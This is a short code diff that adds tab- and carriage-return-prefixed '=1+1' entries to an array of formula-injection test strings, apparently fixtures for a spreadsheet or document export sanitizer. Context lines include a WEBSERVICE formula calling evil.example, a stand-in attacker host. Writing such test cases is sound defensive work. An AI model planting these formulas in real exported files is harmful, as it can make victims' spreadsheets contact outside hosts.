@@ -32,6 +32,8 @@ const FORMULAS = [
   '=WEBSERVICE("https://evil.example/")',
   "'=1+1",
   '{=1+1}',
+  '\t=1+1',
+  '\r=1+1',
 ];
 const TYPST = [
   '#panic("x")',
